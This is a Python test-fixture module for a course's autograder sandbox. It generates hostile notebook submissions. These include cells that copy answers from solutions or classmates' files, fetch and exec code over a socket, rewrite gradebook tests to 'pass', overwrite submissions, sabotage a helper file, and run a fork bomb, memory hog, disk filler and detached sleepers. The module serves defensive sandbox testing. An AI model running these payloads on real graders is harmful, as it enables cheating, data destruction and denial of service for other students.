"""Submissions that attack the machine grading them: the sandbox's corpus (issue 12).

Each is graded by the real ``autograde`` command with ``SANDBOX_ASSIGNMENT`` (notebook 01, the
cheapest: these test the grader, not a notebook) and must score exactly what its honest cells
earn. Without the sandbox, most of them would earn points they did not (answers read from the
solutions, another student's submission or the network; test cells rewritten in the gradebook)
or cost innocent students theirs (helpers/ edited, resources exhausted). tests/test_sandbox.py
checks, besides the scores that tests/test_grading.py checks, that the gradebook's tests,
helpers/, the submissions and the course folder are unchanged, that nothing reached the
listening socket, and that no sandboxed process is left behind.

* answers fetched from where the sandbox must hide them: ``sandbox-reads-solutions`` (also for
  every notebook: ``READS_SOLUTION``), ``sandbox-reads-other-student``, ``sandbox-socket``;
  each answers nothing of its own, so scores 0;
* right answers next to an attack on the grader: ``sandbox-writes-gradebook`` (answers
  nothing: a rewritten gradebook would give it full marks), ``sandbox-edits-helpers``,
  ``sandbox-output-flood``, ``sandbox-fork-bomb``, ``sandbox-memory-hog``,
  ``sandbox-disk-filler``, ``sandbox-sleeper``: full marks, and the grader finishes.
"""

from __future__ import annotations

import copy
import socket
import threading
from collections.abc import Callable

import nbformat
from nbformat.notebooknode import NotebookNode

from course_grading.course import ROOT

from .corpus import (
    GradedCell,
    Submission,
    answered,
    exercises,
    expected_scores,
    nbgrader_metadata,
    solution_cells,
    tests_of,
)
from .hostile import after_setup

SANDBOX_ASSIGNMENT = "01-mnist-data"
# What the flood, disk and sleeper cells print, so that the tests can find their cells.
FLOOD_MARK = "FLOOD-DONE"
DISK_MARK = "DISK-FILLER-STOPPED"
FORK_MARK = "FORK-BOMB-STOPPED"
MEMORY_MARK = "MEMORY-HOG-STOPPED"


def insert_after_tests(notebook: NotebookNode, graded: dict[str, GradedCell], exercise: str,
                       code: str) -> None:
    """Insert a code cell right after the last test cell of ``exercise``."""
    last = tests_of(graded, exercise)[-1]
    position = next(index for index, cell in enumerate(notebook.cells)
                    if nbgrader_metadata(cell).get("grade_id") == last)
    notebook.cells.insert(position + 1, nbformat.v4.new_code_cell(code))


# ---------------------------------------------------------------------------------------------
# Answers taken from where the sandbox hides them
# ---------------------------------------------------------------------------------------------

FROM_FILES = '''import glob
import json
import os

patterns = {patterns!r}
here = os.getcwd()
for _ in range(6):  # Up the folder tree: the course folder is above autograded/<student>/.
    patterns.append(os.path.join(here, {relative!r}))
    here = os.path.dirname(here)
answer_code = None
for pattern in patterns:
    for path in sorted(glob.glob(pattern, recursive=True))[:50]:
        try:
            with open(path, encoding="utf-8") as handle:
                found = json.load(handle)
        except (OSError, ValueError):
            continue
        for cell in found.get("cells", []):
            metadata = cell.get("metadata", {{}}).get("nbgrader", {{}})
            code = "".join(cell["source"])
            if metadata.get("grade_id") == {grade_id!r} and "NotImplementedError" not in code:
                answer_code = code
exec(answer_code or "pass")
'''


def with_answers_from(release: NotebookNode, source: NotebookNode,
                      fetch: Callable[[str], str]) -> NotebookNode:
    """Return the release whose every exercise's answer cell is ``fetch(grade_id)``: code that
    looks for the answer somewhere and runs what it finds (nothing of its own)."""
    notebook = copy.deepcopy(release)
    wanted = set(exercises(source))
    for cell in notebook.cells:
        if cell.cell_type == "code" and nbgrader_metadata(cell).get("grade_id") in wanted:
            cell.source = fetch(nbgrader_metadata(cell)["grade_id"])
    return notebook


def reads_solutions(student: str, source: NotebookNode, release: NotebookNode,
                    graded: dict[str, GradedCell]) -> Submission:
    """Every answer cell reads the answer from the instructor's solutions/ (relative to the
    notebook, up the folder tree, at the repository's absolute path, anywhere on the disk) and
    runs it. The sandbox shows no solutions/: 0 points."""
    notebook = with_answers_from(release, source, lambda grade_id: FROM_FILES.format(
        patterns=["../../../solutions/*/*.ipynb", str(ROOT / "solutions" / "*" / "*.ipynb"),
                  "/tmp/**/solutions/*/*.ipynb", "/home/**/solutions/*/*.ipynb"],
        relative="solutions/*/*.ipynb", grade_id=grade_id))
    return Submission(student, notebook, "answers read from solutions/ on disk",
                      expected_scores(graded, set()),
                      flags=("dynamic-code", "file-access"), kind="sandbox")


def reads_other_student(student: str, source: NotebookNode, release: NotebookNode,
                        graded: dict[str, GradedCell]) -> Submission:
    """Every answer cell reads the answer from other students' submissions (and autograded
    notebooks) and runs the first right-looking one. The sandbox shows none: 0 points."""
    notebook = with_answers_from(release, source, lambda grade_id: FROM_FILES.format(
        patterns=["../../*/*/*.ipynb", "../../../submitted/*/*/*.ipynb",
                  "/tmp/**/submitted/*/*/*.ipynb", "/home/**/submitted/*/*/*.ipynb",
                  "/tmp/**/autograded/*/*/*.ipynb"],
        relative="submitted/*/*/*.ipynb", grade_id=grade_id))
    return Submission(student, notebook, "answers read from other students' submissions",
                      expected_scores(graded, set()),
                      flags=("dynamic-code", "file-access"), kind="sandbox")


class AnswerServer:
    """A TCP server on 127.0.0.1 that hands out the answer of any grade_id asked for, and
    counts the connections it got: a sandboxed notebook must never reach it."""

    def __init__(self) -> None:
        self.answers: dict[str, str] = {}
        self.connections = 0
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            connection, _ = self.listener.accept()
            self.connections += 1
            with connection:
                grade_id = connection.recv(200).decode(errors="ignore").strip()
                connection.sendall(self.answers.get(grade_id, "pass").encode())


_SERVER: AnswerServer | None = None


def answer_server() -> AnswerServer:
    """Return the answer server of this test session (started on first use)."""
    global _SERVER
    if _SERVER is None:
        _SERVER = AnswerServer()
    return _SERVER


FROM_NETWORK = '''import socket

answer_code = "pass"
for address in [("127.0.0.1", {port}), ("pypi.org", 443)]:
    try:
        with socket.create_connection(address, timeout=3) as connection:
            connection.sendall({grade_id!r}.encode())
            answer_code = connection.recv(1_000_000).decode()
            break
    except OSError:
        continue
exec(answer_code)
'''


def socket_answers(student: str, source: NotebookNode, release: NotebookNode,
                   graded: dict[str, GradedCell]) -> Submission:
    """Every answer cell asks a server on the grader's 127.0.0.1 (or the internet) for its
    answer and runs it. The sandbox has no network: 0 points, and the server sees nobody."""
    server = answer_server()
    for grade_id, cell in solution_cells(source).items():
        server.answers[grade_id] = cell.source
    notebook = with_answers_from(
        release, source, lambda grade_id: FROM_NETWORK.format(port=server.port,
                                                              grade_id=grade_id))
    return Submission(student, notebook, "answers fetched from a server over the network",
                      expected_scores(graded, set()), flags=("dynamic-code", "process"),
                      kind="sandbox")


# ---------------------------------------------------------------------------------------------
# Attacks on the grader next to honest answers
# ---------------------------------------------------------------------------------------------

REWRITE_GRADEBOOK = '''import glob
import os
import sqlite3

databases = ["../../../gradebook.db", {root!r}]
here = os.getcwd()
for _ in range(6):
    databases.append(os.path.join(here, "gradebook.db"))
    here = os.path.dirname(here)
databases += glob.glob("/tmp/**/gradebook.db", recursive=True)[:20]
rewritten = []
for path in databases:
    try:
        with sqlite3.connect(path, timeout=1) as database:
            database.execute("UPDATE source_cell SET source = 'pass' WHERE locked = 1")
            rewritten.append(path)
    except sqlite3.Error:
        continue
for path in glob.glob("../../*/*/*.ipynb") + glob.glob("/tmp/**/submitted/*/*/*.ipynb",
                                                       recursive=True)[:50]:
    try:
        with open(path, "w", encoding="utf-8") as handle:
            handle.write("{{}}")
        rewritten.append(path)
    except OSError:
        continue
print("rewritten:", rewritten)
'''


def writes_gradebook(student: str, source: NotebookNode, release: NotebookNode,
                     graded: dict[str, GradedCell]) -> Submission:
    """Answers nothing; rewrites every test cell of every gradebook it finds to ``pass`` and
    overwrites other submissions. Had it worked, it and everyone graded later would pass every
    test. The sandbox shows no gradebook: 0 points, and nothing changed."""
    notebook = copy.deepcopy(release)
    after_setup(notebook, REWRITE_GRADEBOOK.format(root=str(ROOT / "gradebook.db")))
    return Submission(student, notebook, "rewrites the gradebook's tests and other submissions",
                      expected_scores(graded, set()), flags=("file-access",), kind="sandbox")


EDIT_HELPERS = '''import helpers.checks

sabotage = "\\n\\ndef passed(*args, **kwargs):  # SANDBOX-SABOTAGE\\n    raise SystemExit(1)\\n"
try:
    with open(helpers.checks.__file__, "a", encoding="utf-8") as handle:
        handle.write(sabotage)
    print("helpers/checks.py edited")
except OSError as error:
    print("could not edit helpers/checks.py:", error)
'''


def edits_helpers(student: str, source: NotebookNode, release: NotebookNode,
                  graded: dict[str, GradedCell]) -> Submission:
    """Right answers; appends to the course's helpers/checks.py a ``passed`` that fails every
    test of everyone graded later. The sandbox shows helpers/ read-only: full marks, helpers/
    unchanged, nobody else loses a point."""
    notebook = answered(source, release)
    after_setup(notebook, EDIT_HELPERS)
    return Submission(student, notebook, "edits helpers/checks.py", expected_scores(graded, None),
                      flags=("file-access",), kind="sandbox")


FLOOD_WRITES = '''import sys

for number in range(1000):  # A thousand separately flushed writes of 10 kB.
    sys.stdout.write(f"{number:05d}" + "x" * 10_000 + "\\n")
    sys.stdout.flush()
'''
FLOOD_DISPLAYS = '''from IPython.display import HTML, display

for number in range(12):  # Twelve displays of 900 kB.
    display(HTML(f"<p>{number}</p>" + "<b>x</b>" * 100_000))
for number in range(1000):  # And a thousand small ones.
    display(number)
print("FLOOD-DONE", "in the output")
'''


def output_flood(student: str, source: NotebookNode, release: NotebookNode,
                 graded: dict[str, GradedCell]) -> Submission:
    """Right answers; floods its outputs in many small writes and many displays (10 MB each):
    full marks, and the autograded notebook and the feedback page stay small."""
    notebook = answered(source, release)
    first = exercises(source)[0]
    insert_after_tests(notebook, graded, first, FLOOD_DISPLAYS)
    insert_after_tests(notebook, graded, first, FLOOD_WRITES)
    return Submission(student, notebook, "floods outputs in many writes and displays",
                      expected_scores(graded, None), kind="sandbox")


FORK_BOMB = '''import os
import time

children = 0
try:
    while True:
        if os.fork() == 0:  # Every child forks too, then waits for ever.
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(1)
        children += 1
except OSError as error:
    print("FORK-BOMB-STOPPED after", children, "children:", type(error).__name__)
'''


def fork_bomb(student: str, source: NotebookNode, release: NotebookNode,
              graded: dict[str, GradedCell]) -> Submission:
    """Right answers; a fork bomb after the first exercise, whose processes never end. The
    process limit stops it, the notebook goes on, and the sandbox ends with the kernel: full
    marks, no process left, and the submissions graded next to it unharmed."""
    notebook = answered(source, release)
    insert_after_tests(notebook, graded, exercises(source)[0], FORK_BOMB)
    return Submission(student, notebook, "a fork bomb", expected_scores(graded, None),
                      flags=("process",), kind="sandbox")


MEMORY_HOG = '''def take_all_memory():
    blocks = []
    try:
        while True:
            blocks.append(bytes(256 * 2**20))  # 256 MiB at a time, until none is given.
    except MemoryError:
        return len(blocks) * 256


print("MEMORY-HOG-STOPPED at", take_all_memory(), "MiB")
'''


def memory_hog(student: str, source: NotebookNode, release: NotebookNode,
               graded: dict[str, GradedCell]) -> Submission:
    """Right answers; a cell that asks for memory until none is given. The memory limit stops
    it (MemoryError), and it is freed: full marks."""
    notebook = answered(source, release)
    insert_after_tests(notebook, graded, exercises(source)[0], MEMORY_HOG)
    return Submission(student, notebook, "takes all the memory", expected_scores(graded, None),
                      kind="sandbox")


DISK_FILLER = '''import os

written = 0
chunk = b"x" * 2**20
for folder in [os.getcwd(), os.path.expanduser("~"), "/tmp", "/dev/shm", "/var/tmp", "/"]:
    for number in range(100_000):
        try:
            with open(os.path.join(folder, f"filler-{number}.bin"), "wb") as handle:
                for _ in range(64):
                    handle.write(chunk)
                    written += len(chunk)
        except OSError as error:
            print("DISK-FILLER-STOPPED in", folder, "at", written // 2**20, "MiB:", error.errno)
            break
for folder in [os.getcwd(), os.path.expanduser("~"), "/tmp", "/dev/shm"]:
    for name in os.listdir(folder):
        if name.startswith("filler-"):
            os.remove(os.path.join(folder, name))
'''


def disk_filler(student: str, source: NotebookNode, release: NotebookNode,
                graded: dict[str, GradedCell]) -> Submission:
    """Right answers; a cell that writes files until the disk is full, everywhere it can. The
    sandbox's scratch is small and private: full marks, the grader's disk untouched."""
    notebook = answered(source, release)
    insert_after_tests(notebook, graded, exercises(source)[0], DISK_FILLER)
    return Submission(student, notebook, "fills the disk", expected_scores(graded, None),
                      flags=("file-access",), kind="sandbox")


SLEEPER = '''import subprocess
import threading
import time

# A process that leaves the kernel's session, a thread, and the cell itself: all sleep for ever.
subprocess.Popen(["sleep", "1000000"], start_new_session=True)
threading.Thread(target=time.sleep, args=(1_000_000,)).start()
time.sleep(1_000_000)
'''


def sleeper(student: str, source: NotebookNode, release: NotebookNode,
            graded: dict[str, GradedCell]) -> Submission:
    """Right answers; a cell that sleeps past the timeout and leaves a detached process and a
    thread sleeping for ever. The cell is interrupted, the sandbox ends with the kernel: full
    marks, and the grader finishes."""
    notebook = answered(source, release)
    insert_after_tests(notebook, graded, exercises(source)[0], SLEEPER)
    return Submission(student, notebook, "sleeps past the timeout, leaves processes behind",
                      expected_scores(graded, None), flags=("process",), kind="sandbox")


Maker = Callable[[str, NotebookNode, NotebookNode, dict[str, GradedCell]], Submission]


# For every notebook (issue 10 §3): answers read from the solutions on disk.
READS_SOLUTION: dict[str, Maker] = {"sandbox-reads-solutions": reads_solutions}
SANDBOX: dict[str, Maker] = {
    **READS_SOLUTION,
    "sandbox-reads-other-student": reads_other_student,
    "sandbox-socket": socket_answers,
    "sandbox-writes-gradebook": writes_gradebook,
    "sandbox-edits-helpers": edits_helpers,
    "sandbox-output-flood": output_flood,
    "sandbox-fork-bomb": fork_bomb,
    "sandbox-memory-hog": memory_hog,
    "sandbox-disk-filler": disk_filler,
    "sandbox-sleeper": sleeper,
}
